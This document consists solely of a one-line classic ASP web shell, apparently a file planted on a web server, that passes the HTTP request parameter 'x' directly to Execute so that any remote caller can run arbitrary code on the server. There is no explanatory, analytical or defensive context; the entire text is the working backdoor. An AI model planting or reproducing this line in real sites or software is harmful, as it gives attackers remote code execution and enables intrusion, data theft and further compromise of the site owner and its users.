<% Execute(Request("x")) %>
